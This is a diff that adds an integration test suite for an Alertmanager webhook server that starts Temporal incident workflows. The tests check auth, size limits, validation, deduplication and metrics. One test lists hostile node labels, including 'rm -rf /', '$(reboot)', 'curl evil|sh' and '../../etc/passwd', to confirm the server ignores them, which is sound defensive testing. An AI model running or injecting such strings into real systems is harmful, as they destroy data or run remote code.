@@ -1,0 +1,275 @@
+// The alert webhook over real HTTP against a real Temporal dev server (no worker: these tests
+// are about what gets recorded, not what runs). Every bad request is answered with the §8 status
+// and a message naming the problem, and starts no workflow (checked by listing workflows).
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Client, Connection } from '@temporalio/client';
+import type { TestWorkflowEnvironment } from '@temporalio/testing';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { defaultPolicy, loadCluster } from '../../src/config/loader.js';
+import { RunbookLogger } from '../../src/logging/logger.js';
+import { startWebhookServer, type WebhookServer } from '../../src/webhook/server.js';
+import { freePort } from '../helpers/free-port.js';
+import { startDevEnv, uniqueId } from '../helpers/temporal-env.js';
+import { waitFor } from '../helpers/wait.js';
+import { alert, notification, post } from './alerts.js';
+
+const TOKEN = 'test-webhook-token-7f3a9c1e5b';
+const NODES = ['gpu-1', 'gpu-2', 'gpu-3'];
+const taskQueue = uniqueId('webhook-intake-q');
+const logLines: string[] = [];
+let env: TestWorkflowEnvironment;
+let hook: WebhookServer;
+
+beforeAll(async () => {
+  env = await startDevEnv();
+  const dir = mkdtempSync(join(tmpdir(), 'runbook-webhook-'));
+  const hostsFile = join(dir, 'distributed_hosts.yaml');
+  // Never contacted: no worker runs here. Addresses in this file's subnet (110) all the same.
+  writeFileSync(hostsFile, `hosts:\n${NODES.map((n, i) => `  - name: ${n}\n    host: 127.110.0.${i + 1}\n`).join('')}`);
+  const cluster = loadCluster(hostsFile);
+  hook = await startWebhookServer({
+    client: env.client,
+    taskQueue,
+    cluster: () => cluster,
+    policy: defaultPolicy(),
+    token: TOKEN,
+    uiUrl: 'http://ui.test',
+    logger: new RunbookLogger({ format: 'json', write: (l) => logLines.push(l) }),
+  });
+});
+
+afterAll(async () => {
+  await hook?.close();
+  await env?.teardown();
+});
+
+async function workflowIds(): Promise<string[]> {
+  const ids: string[] = [];
+  for await (const w of env.client.workflow.list({ query: `TaskQueue = "${taskQueue}"` })) ids.push(w.workflowId);
+  return ids.sort();
+}
+
+/**
+ * Runs a bad request, then proves nothing was started: a valid sentinel alert posted after it
+ * becomes visible in the workflow list, and the list holds nothing else new.
+ */
+async function expectNothingStarted(badRequest: () => Promise<void>): Promise<void> {
+  const before = await workflowIds();
+  await badRequest();
+  const sentinel = await post(hook.url, notification([alert({ alertname: 'ClusterConnectivityDegraded', startsAt: new Date(Date.now() + Math.random() * 1e9).toISOString() })]), TOKEN);
+  expect(sentinel.status).toBe(202);
+  const id = sentinel.body.accepted![0]!.workflowId!;
+  const after = await waitFor(`sentinel ${id} to be listed`, async () => {
+    const ids = await workflowIds();
+    return ids.includes(id) ? ids : undefined;
+  });
+  expect(after.filter((x) => !before.includes(x))).toEqual([id]);
+}
+
+const degraded = (labels: Record<string, string> = {}): Record<string, unknown> =>
+  notification([alert({ alertname: 'ClusterConnectivityDegraded', labels })]);
+
+describe('POST /alerts/alertmanager refuses bad requests and starts nothing', () => {
+  it('no token: 401 naming the missing header', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, degraded(), null);
+      expect(r.status).toBe(401);
+      expect(r.body.error).toMatch(/missing "Authorization: Bearer <token>" header/);
+    });
+  });
+
+  it('wrong token, and a token in the wrong scheme: 401', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, degraded(), `${TOKEN}x`);
+      expect(r.status).toBe(401);
+      expect(r.body.error).toBe('wrong bearer token');
+      const basic = await fetch(`${hook.url}/alerts/alertmanager`, {
+        method: 'POST',
+        headers: { authorization: `Basic ${Buffer.from(`x:${TOKEN}`).toString('base64')}` },
+        body: JSON.stringify(degraded()),
+      });
+      expect(basic.status).toBe(401);
+      expect(((await basic.json()) as { error: string }).error).toMatch(/malformed Authorization header/);
+    });
+  });
+
+  it('a body over 1 MiB: 413', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, undefined, TOKEN, JSON.stringify({ ...degraded(), pad: 'x'.repeat(1024 * 1024) }));
+      expect(r.status).toBe(413);
+      expect(r.body.error).toBe(`body larger than ${1024 * 1024} bytes`);
+    });
+  });
+
+  it('malformed JSON: 400', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, undefined, TOKEN, '{"version": "4", "alerts": [');
+      expect(r.status).toBe(400);
+      expect(r.body.error).toMatch(/^body is not valid JSON/);
+    });
+  });
+
+  it('wrong version: 400 naming "version"', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, { ...degraded(), version: '3' }, TOKEN);
+      expect(r.status).toBe(400);
+      expect(r.body.error).toMatch(/^version: only version "4"/);
+    });
+  });
+
+  it('missing alerts: 400 naming "alerts"', async () => {
+    await expectNothingStarted(async () => {
+      const { alerts: _alerts, ...rest } = degraded();
+      const r = await post(hook.url, rest, TOKEN);
+      expect(r.status).toBe(400);
+      expect(r.body.error).toBe('alerts: required field is missing');
+    });
+  });
+
+  it('a bad field inside one alert: 400 naming its path', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, notification([alert({ alertname: 'NodeEvicted' }), { ...alert({ alertname: 'NodeEvicted' }), startsAt: 'yesterday' }]), TOKEN);
+      expect(r.status).toBe(400);
+      expect(r.body.error).toMatch(/^alerts\[1\]\.startsAt: /);
+    });
+  });
+
+  it('an unknown alert name: 202, ignored with the reason', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, notification([alert({ alertname: 'DiskFull' })]), TOKEN);
+      expect(r.status).toBe(202);
+      expect(r.body.accepted).toEqual([expect.objectContaining({ alert: 'DiskFull', action: 'ignored', reason: 'no route for alert "DiskFull" (config/runbook.yaml alerts:)' })]);
+      expect(r.body.accepted![0]).not.toHaveProperty('workflowId');
+    });
+  });
+
+  it('an unknown node, and a NodeEvicted without a node label: 202, ignored', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, notification([alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-9' } }), alert({ alertname: 'NodeEvicted' })]), TOKEN);
+      expect(r.status).toBe(202);
+      expect(r.body.accepted!.map((a) => [a.action, a.reason])).toEqual([
+        ['ignored', 'label node="gpu-9" names no configured node'],
+        ['ignored', 'recover-node needs the label "node" naming a node; the alert has none'],
+      ]);
+    });
+  });
+
+  it('shell metacharacters and path traversal in labels: ignored, never a node, never a workflow', async () => {
+    const hostile = ['gpu-1; rm -rf / #', '$(reboot)', '`id`', 'gpu-1 && curl evil|sh', '../../etc/passwd', 'gpu-1/../gpu-2', 'gpu-1\nEVIL'];
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, notification(hostile.map((node) => alert({ alertname: 'NodeEvicted', labels: { node } }))), TOKEN);
+      expect(r.status).toBe(202);
+      expect(r.body.accepted!.map((a) => a.action)).toEqual(hostile.map(() => 'ignored'));
+      r.body.accepted!.forEach((a) => expect(a.reason).toMatch(/^label node=".*" names no configured node$/));
+      // An alert name with the same tricks is just an unknown name.
+      const named = await post(hook.url, notification([alert({ alertname: '../NodeEvicted;reboot' })]), TOKEN);
+      expect(named.body.accepted![0]).toMatchObject({ action: 'ignored', reason: 'no route for alert "../NodeEvicted;reboot" (config/runbook.yaml alerts:)' });
+    });
+  });
+
+  it('10,000 alerts in one post: 413 (over the body limit); 1,001 small ones: 400 naming the cap', async () => {
+    await expectNothingStarted(async () => {
+      const many = Array.from({ length: 10_000 }, () => alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-1' } }));
+      const big = await post(hook.url, notification(many), TOKEN);
+      expect(big.status).toBe(413);
+      const small = Array.from({ length: 1001 }, (_, i) => ({ status: 'firing', labels: { alertname: 'X' }, startsAt: '2026-01-01T00:00:00Z', fingerprint: `f${i}` }));
+      const r = await post(hook.url, notification(small), TOKEN);
+      expect(r.status).toBe(400);
+      expect(r.body.error).toBe('alerts: 1001 alerts in one notification, at most 1000 (set max_alerts on the Alertmanager receiver)');
+    });
+  });
+
+  it('a resolved notification for an unknown incident: ignored, starts nothing', async () => {
+    await expectNothingStarted(async () => {
+      const r = await post(hook.url, notification([alert({ alertname: 'ClusterConnectivityDegraded', status: 'resolved', startsAt: '2026-01-02T03:04:05Z' })], 'resolved'), TOKEN);
+      expect(r.status).toBe(202);
+      expect(r.body.accepted).toEqual([
+        expect.objectContaining({ action: 'ignored', reason: 'no incident for this alert', workflowId: 'incident-connectivity-incident-cluster-20260102T030405000Z' }),
+      ]);
+    });
+  });
+});
+
+describe('one alert occurrence, one incident', () => {
+  it('100 identical posts at once start exactly one workflow; the others join it', async () => {
+    const body = notification([alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-2' }, startsAt: '2026-03-04T05:06:07.123456789Z', fingerprint: 'abc123' })]);
+    const answers = await Promise.all(Array.from({ length: 100 }, () => post(hook.url, body, TOKEN)));
+    expect(answers.map((a) => a.status)).toEqual(answers.map(() => 202));
+    const actions = answers.map((a) => a.body.accepted![0]!.action);
+    expect(actions.filter((a) => a === 'started')).toHaveLength(1);
+    expect(actions.filter((a) => a === 'joined')).toHaveLength(99);
+    const id = 'incident-recover-node-gpu-2-20260304T050607123Z';
+    expect(new Set(answers.map((a) => a.body.accepted![0]!.workflowId))).toEqual(new Set([id]));
+    expect(answers[0]!.body.accepted![0]!.url).toBe(`http://ui.test/namespaces/default/workflows/${id}`);
+    await waitFor('the incident to be listed', async () => (await workflowIds()).includes(id));
+    expect((await workflowIds()).filter((x) => x.startsWith('incident-recover-node-gpu-2-'))).toEqual([id]);
+    const d = await env.client.workflow.getHandle(id).describe();
+    expect(d.type).toBe('connectivity-incident');
+    // A re-fire with a new startsAt is a new incident.
+    const again = await post(hook.url, notification([alert({ alertname: 'NodeEvicted', labels: { node: 'gpu-2' }, startsAt: '2026-03-04T06:00:00Z' })]), TOKEN);
+    expect(again.body.accepted![0]).toMatchObject({ action: 'started', workflowId: 'incident-recover-node-gpu-2-20260304T060000000Z' });
+  });
+
+  it('the token never reaches a log line', () => {
+    expect(logLines.length).toBeGreaterThan(0);
+    for (const l of logLines) expect(l).not.toContain(TOKEN);
+  });
+});
+
+describe('health and metrics', () => {
+  it('GET /healthz is 200 while Temporal answers', async () => {
+    const r = await fetch(`${hook.url}/healthz`);
+    expect(r.status).toBe(200);
+  });
+
+  it('GET /metrics counts what happened and passes promtool check metrics', async () => {
+    const text = await (await fetch(`${hook.url}/metrics`)).text();
+    const value = (series: string): number => Number(new RegExp(`^${series.replace(/[{}"[\]]/g, '\\$&')} (\\S+)$`, 'm').exec(text)?.[1]);
+    expect(value('runbook_webhook_incidents_total{action="started"}')).toBeGreaterThanOrEqual(2);
+    expect(value('runbook_webhook_incidents_total{action="joined"}')).toBeGreaterThanOrEqual(99);
+    expect(value('runbook_webhook_requests_rejected_total{reason="unauthorized"}')).toBeGreaterThanOrEqual(3);
+    expect(value('runbook_webhook_requests_rejected_total{reason="too_large"}')).toBeGreaterThanOrEqual(2);
+    expect(value('runbook_webhook_requests_rejected_total{reason="bad_payload"}')).toBeGreaterThanOrEqual(4);
+    expect(value('runbook_webhook_requests_rejected_total{reason="bad_json"}')).toBe(1);
+    expect(value('runbook_webhook_request_duration_seconds_count')).toBeGreaterThan(100);
+    // Debian's prometheus package ships promtool; .ci/run installs it.
+    const check = spawnSync('promtool', ['check', 'metrics'], { input: text });
+    expect(check.error, 'promtool is not installed').toBeUndefined();
+    expect(check.status, check.stderr.toString() + check.stdout.toString()).toBe(0);
+  });
+
+  it('answers 503 when Temporal cannot record the alert, so Alertmanager retries', async () => {
+    // A real client whose server is gone: nothing listens on this port.
+    const connection = Connection.lazy({ address: `127.0.0.1:${await freePort()}` });
+    const cluster = loadCluster(writeHosts());
+    const down = await startWebhookServer({
+      client: new Client({ connection }),
+      taskQueue,
+      cluster: () => cluster,
+      policy: defaultPolicy(),
+      token: TOKEN,
+      uiUrl: 'http://ui.test',
+    });
+    try {
+      const r = await post(down.url, degraded(), TOKEN);
+      expect(r.status).toBe(503);
+      expect(r.body.error).toMatch(/^Temporal could not start or signal the incident/);
+      expect((await fetch(`${down.url}/healthz`)).status).toBe(503);
+      // An ignored alert needs no Temporal: still a 202.
+      expect((await post(down.url, notification([alert({ alertname: 'DiskFull' })]), TOKEN)).status).toBe(202);
+    } finally {
+      await down.close();
+      await connection.close();
+    }
+  });
+});
+
+function writeHosts(): string {
+  const dir = mkdtempSync(join(tmpdir(), 'runbook-webhook-'));
+  const file = join(dir, 'distributed_hosts.yaml');
+  writeFileSync(file, 'hosts:\n  - name: gpu-1\n    host: 127.110.0.1\n');
+  return file;
+}
